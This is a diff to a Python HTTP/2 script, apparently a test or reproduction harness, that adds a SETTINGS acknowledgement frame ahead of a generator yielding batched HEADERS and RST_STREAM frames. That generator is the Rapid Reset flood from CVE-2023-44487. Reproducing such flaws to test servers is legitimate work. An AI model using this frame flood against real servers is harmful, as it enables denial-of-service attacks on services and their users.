@@ -24,7 +24,7 @@ from executables import Server, warpfold
 from keys import make_keys
 
 _DATA, _HEADERS, RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
-_END_STREAM, _END_HEADERS = 1, 4
+_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
 _INITIAL_WINDOW_SIZE = 4
 _LARGEST_FRAME = 16384
 _BATCH = 64
@@ -34,6 +34,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
+ACKNOWLEDGEMENT = frame(_SETTINGS, _ACK, 0)
 BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)
 
 
@@ -83,6 +84,7 @@ def frame_types(connection: socket.socket) -> Iterator[int]:
 
 def resets() -> Iterator[bytes]:
     """Calls that are taken back at once (CVE-2023-44487)."""
+    yield ACKNOWLEDGEMENT
     for first in itertools.count(1, 2 * _BATCH):
         yield b"".join(frame(_HEADERS, _END_HEADERS, stream, _HEADER_BLOCK) +
                        frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
